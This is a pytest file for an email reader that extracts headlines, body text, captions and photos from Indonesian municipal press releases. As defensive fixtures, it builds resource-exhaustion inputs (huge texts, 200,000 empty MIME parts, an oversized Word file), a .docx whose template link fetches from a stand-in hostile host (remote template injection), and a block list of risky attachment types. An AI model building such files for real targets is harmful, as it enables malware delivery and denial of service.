"""Mails as offices send them and readers get wrong: each is read as an editor would read it."""

from __future__ import annotations

import base64
import io
import tracemalloc
import zipfile
from email.message import EmailMessage

import pytest

from ingest import Message, RawMessage, html, mime, parts, read
from tests.office import picture

LEAD = (
    "Wali Kota Uji, Rangga Wirasena, membuka musyawarah perencanaan pembangunan di aula kecamatan, Jumat "
    "(20/11/2026). Kegiatan itu dihadiri 120 peserta dari delapan kelurahan."
)
MORE = (
    "Dalam sambutannya, Rangga meminta seluruh perangkat daerah menyusun usulan yang benar-benar dibutuhkan "
    "warga. Ia ingin anggaran tepat sasaran."
)
LAST = (
    "Ia berharap hasil musyawarah segera ditindaklanjuti dinas terkait sehingga pembangunan berjalan merata "
    "sampai ke pelosok kampung."
)
STORY = f"{LEAD}\n\n{MORE}\n\n{LAST}"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SUBJECT = "Wali Kota Uji Membuka Musrenbang"


def mail(text: str, *, subject: str = SUBJECT, kind: str = "plain", photos: int = 0) -> EmailMessage:
    message = EmailMessage()
    message["From"] = "Nala Ayuningtias <nala@contoh.example>"
    message["Subject"] = subject
    message.set_content(text, subtype=kind)
    for number in range(1, photos + 1):
        message.add_attachment(picture(number), "image", "jpeg", filename=f"DSC_{number:04}.jpg")
    return message


def word(paragraphs: str, pictures: dict[str, bytes] | None = None) -> bytes:
    """Return a .docx of WordprocessingML paragraphs; `pictures` are in the file and shown by no paragraph."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", f'<Types xmlns="{_PACKAGE}/content-types"/>')
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" Type="{_OFFICE}/officeDocument" '
            'Target="word/document.xml"/></Relationships>',
        )
        archive.writestr(
            "word/document.xml",
            f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{paragraphs}'
            "</w:body></w:document>",
        )
        links = "".join(
            f'<Relationship Id="p{index}" Type="{_OFFICE}/image" Target="media/{name}"/>'
            for index, name in enumerate(pictures or {})
        )
        archive.writestr(
            "word/_rels/document.xml.rels",
            f'<Relationships xmlns="{_PACKAGE}/relationships">{links}</Relationships>',
        )
        for name, data in (pictures or {}).items():
            archive.writestr(f"word/media/{name}", data)
    return out.getvalue()


def in_word(*paragraphs: str) -> bytes:
    return word("".join(f"<w:p><w:r><w:t>{paragraph}</w:t></w:r></w:p>" for paragraph in paragraphs))


def attach(message: EmailMessage, name: str, data: bytes) -> None:
    message.add_attachment(data, "application", "octet-stream", filename=name)


def read_as(message: EmailMessage) -> Message:
    return read(RawMessage(bytes(message), "uji"))


def test_photos_written_into_the_page_itself_are_photos_in_the_order_of_the_text() -> None:
    one, two = (base64.encodebytes(picture(seed)).decode() for seed in (1, 2))
    page = (
        f"<p>{LEAD}</p><img src='data:image/jpeg;base64,{one}'><p>{MORE}</p>"
        f'<img src="data:image/JPEG;base64,{two}"><p>{LAST}</p><p>Foto 1: Gong dipukul.</p><p>Foto 2: Peserta.</p>'
    )
    message = read_as(mail(page, kind="html"))
    assert [image.data for image in message.images] == [picture(1), picture(2)]
    assert [image.caption for image in message.images] == ["Gong dipukul.", "Peserta."]
    assert "base64" not in message.body


def test_a_text_as_long_as_a_library_is_read_at_its_beginning_and_says_so() -> None:
    message = read_as(mail(f"{STORY}\n\n" + f"{'kata ' * 2000}\n\n" * 120))
    assert message.body.startswith(LEAD)
    assert len(message.source_text) <= 500_000
    assert parts.TOO_LONG in message.defects


def test_many_long_texts_are_not_read_one_by_one() -> None:
    message = mail(STORY)
    message.make_mixed()
    for _ in range(8):
        page = EmailMessage()
        page.set_content(f"{'kata ' * 100_000}\n")
        message.attach(page)
    told = read_as(message)
    assert told.body.startswith(LEAD)
    assert sum(part.reason == "teks surel" for part in told.parts) == 5
    assert parts.TOO_LONG in told.defects


def test_millions_of_empty_parts_fill_no_memory() -> None:
    data = b"Content-Type: multipart/mixed; boundary=x\r\n\r\n" + b"--x\r\n" * 200_000
    tracemalloc.start()
    try:
        root = mime.parse(data)
        assert tracemalloc.get_traced_memory()[1] < 16_000_000
    finally:
        tracemalloc.stop()
    assert any("tidak didaftar" in defect for defect in root.defects)


def test_a_word_document_of_countless_paragraphs_is_kept_and_not_read() -> None:
    story = f"<w:p><w:r><w:t>{LEAD}</w:t></w:r></w:p>"
    message = mail("Terlampir.")
    attach(message, "Panjang.docx", word(story + "<w:p/>" * 200_000))
    told = read_as(message)
    assert LEAD not in told.body
    assert any("terlalu besar" in defect for defect in told.defects)
    assert [document.filename for document in told.documents] == ["Panjang.docx"]


def test_a_page_of_countless_tags_is_read_without_its_structure() -> None:
    told = html.to_markdown(f"<p><b>{LEAD}</b></p>" + "<br>" * 50_000)
    assert LEAD in told
    assert "**" not in told


# Official letters

LETTERHEAD = (
    "PEMERINTAH KOTA UJI",
    "DINAS KOMUNIKASI, INFORMATIKA DAN STATISTIK",
    "Jalan Contoh Nomor 1 Kota Uji Telp. (0536) 1234567",
    "SIARAN PERS",
    "Nomor: 480/123/DISKOMINFO/XI/2026",
)
SIGNATORY = (
    "Kota Uji, 20 November 2026",
    "Kepala Dinas,",
    "Melati Sukma, S.Kom",
    "NIP. 19700101 199003 1 001",
)


def test_a_release_under_a_letterhead_is_its_headline_and_its_text() -> None:
    message = mail("Terlampir rilis, mohon dimuat.", subject="Permohonan Publikasi")
    title = "WALI KOTA BUKA MUSRENBANG KOTA UJI"
    text = in_word(*LETTERHEAD, title, f"KOTA UJI – {LEAD}", MORE, LAST, *SIGNATORY)
    attach(message, "Rilis 2026.docx", text)
    told = read_as(message)
    assert (told.headline, told.dateline_city, told.body) == (title, "Kota Uji", STORY)
    aside = {segment.kind: segment.text for segment in told.segments if segment.kind != "story"}
    assert all(line in aside["letterhead"] for line in LETTERHEAD)
    assert all(line in aside["signature"] for line in SIGNATORY)
    assert "".join(segment.text for segment in told.segments) == told.source_text


def test_a_letter_in_the_mail_itself_is_read_without_its_labels() -> None:
    labels = "Nomor : 480/12/2026\nLampiran : 1 berkas\nPerihal : Siaran Pers\nKepada Yth. Redaksi\ndi Tempat"
    told = read_as(mail(f"{labels}\n\nDengan hormat,\nBersama ini kami sampaikan siaran pers.\n\n{STORY}"))
    assert told.body == STORY


def test_a_headline_that_begins_with_an_office_is_no_letterhead() -> None:
    title = "DINAS KESEHATAN GELAR IMUNISASI MASSAL"
    told = read_as(mail(f"{title}\n\nKOTA UJI - {STORY}", subject="Rilis"))
    assert (told.headline, told.body) == (title, STORY)
    assert not [segment for segment in told.segments if segment.kind != "story"]


# Captions


@pytest.mark.parametrize(
    ("below", "captions", "credits"),
    [
        ("Teks foto: Gong dipukul. (foto/nala)", ["Gong dipukul."], ["nala"]),
        ("Foto: Gong dipukul. (foto: nala)", ["Gong dipukul."], ["nala"]),
        (
            "Caption Foto 1\nGong dipukul.\n\nCaption Foto 2\nPeserta.",
            ["Gong dipukul.", "Peserta."],
            ["", ""],
        ),
        ("Foto 1-2: Suasana.\nFoto 3 dan 4: Peserta.", ["Suasana."] * 2 + ["Peserta."] * 2, [""] * 4),
        ("Foto 1: Gong.\nFoto by: Nala", ["Gong."], ["Nala"]),
    ],
)
def test_captions_are_read_in_the_layouts_people_write(
    below: str, captions: list[str], credits: list[str]
) -> None:
    told = read_as(mail(f"KOTA UJI - {STORY}\n\n(MC. Kota Uji/nala)\n\n{below}", photos=len(captions)))
    assert [image.caption for image in told.images] == captions
    assert [image.credit for image in told.images] == credits
    assert (told.body, told.byline_writer) == (STORY, "nala")


def test_a_list_of_captions_in_a_page_is_one_for_each_photo() -> None:
    page = f"<p>{LEAD}</p><p>{MORE}</p><p>{LAST}</p><p><b>Keterangan Foto:</b></p><ul><li>Gong</li><li>Peserta</li></ul>"
    told = read_as(mail(page, kind="html", photos=2))
    assert [image.caption for image in told.images] == ["Gong", "Peserta"]


def test_a_caption_in_capitals_with_a_dash_above_the_dateline_is_no_dateline() -> None:
    caption = "RAKOR INFLASI - Wali Kota Uji saat memimpin rakor, Jumat (20/11)."
    told = read_as(mail(f"{caption} FOTO: NALA/MC\n\nKOTA UJI - {STORY}", photos=1))
    assert (told.dateline_city, told.body) == ("Kota Uji", STORY)
    assert (told.images[0].caption, told.images[0].credit) == (caption, "NALA/MC")


def test_a_link_to_photos_is_no_photographer() -> None:
    told = read_as(mail(f"{STORY}\n\nFoto: https://drive.google.com/drive/folders/1", photos=1))
    assert told.photographer == ""
    assert told.links == ("https://drive.google.com/drive/folders/1",)


# Around the story


def test_telephone_numbers_for_the_readers_stay_in_the_story() -> None:
    told = read_as(mail(f"{STORY}\n\nWarga dapat mengadu lewat:\nTelepon 112\nSurel lapor@kota.example"))
    assert "Telepon 112" in told.body
    told = read_as(mail(f"{STORY}\n\nInformasi lebih lanjut hubungi:\nNala\n0812-3456-7890"))
    assert told.body == STORY


@pytest.mark.parametrize("above", ["Minta Usulan Tepat Sasaran\n\n", ""])
def test_a_dateline_below_a_second_headline_is_a_field(above: str) -> None:
    told = read_as(mail(f"WALI KOTA BUKA MUSRENBANG\n{above}KOTA UJI - {STORY}", subject="Rilis"))
    assert (told.headline, told.dateline_city) == ("WALI KOTA BUKA MUSRENBANG", "Kota Uji")
    assert told.body == "\n\n".join(filter(None, [above.strip(), STORY]))


def test_a_byline_code_may_end_in_a_full_stop() -> None:
    told = read_as(mail(f"{STORY}\n\n(MC. Kota Uji/nala)."))
    assert (told.body, told.byline_outlet, told.byline_writer) == (STORY, "MC. Kota Uji", "nala")


def test_one_line_without_a_subject_is_the_headline_and_stays() -> None:
    told = read_as(mail("Gotong royong warga RT 5", subject="", photos=1))
    assert (told.headline, told.body) == ("Gotong royong warga RT 5", "Gotong royong warga RT 5")


@pytest.mark.parametrize("subject", ["Kumpulan Rilis 20 November 2026", "Foto: "])
def test_a_subject_about_the_mail_gives_way_to_the_headline(subject: str) -> None:
    assert read_as(mail(f"WALI KOTA BUKA MUSRENBANG\n\n{STORY}", subject=subject)).headline == (
        "WALI KOTA BUKA MUSRENBANG"
    )


def test_an_offices_disclaimer_of_electronic_messages_is_set_aside() -> None:
    disclaimer = "Pesan elektronik ini dan lampirannya bersifat rahasia.\nCatatan: Pertimbangkan lingkungan."
    assert read_as(mail(f"{STORY}\n\n{disclaimer}")).body == STORY


def test_a_line_that_only_points_to_photos_elsewhere_is_no_part_of_the_story() -> None:
    link = "https://drive.google.com/drive/folders/1AbC"
    told = read_as(mail(f"{STORY}\n\nFoto dan video: {link}"))
    assert told.body == STORY
    assert told.links == (link,)
    assert link in told.note
    assert link in read_as(mail(f"Foto: {link}")).body


def test_photos_a_document_shows_in_a_group_are_photos() -> None:
    paragraphs = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in (LEAD, MORE, LAST))
    message = mail("Terlampir.")
    attach(message, "Musrenbang Kota Uji.docx", word(paragraphs, {"image1.jpeg": picture(1)}))
    assert [image.data for image in read_as(message).images] == [picture(1)]


@pytest.mark.parametrize("target", ["https://jahat.example/a.dotm", "\\\\jahat.example\\a.dotm"])
def test_a_document_that_fetches_a_template_is_kept_in_its_mail_alone(target: str) -> None:
    out = io.BytesIO(in_word(LEAD))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(
            "word/_rels/settings.xml.rels",
            f'<Relationships><Relationship Id="r1" Type="{_OFFICE}/attachedTemplate" Target="{target}" '
            'TargetMode="External"/></Relationships>',
        )
    message = mail(STORY)
    attach(message, "naskah.docx", out.getvalue())
    told = read_as(message)
    assert told.documents == ()
    assert [part.fate for part in told.parts if part.filename == "naskah.docx"] == ["refused"]


@pytest.mark.parametrize(
    "name", ["rilis.jnlp", "data.iqy", "catatan.one", "paket.msix", "berkas.cab", "cari.search-ms"]
)
def test_further_kinds_of_programs_are_kept_in_their_mail_alone(name: str) -> None:
    message = mail(STORY)
    attach(message, name, b"isi")
    assert read_as(message).documents == ()
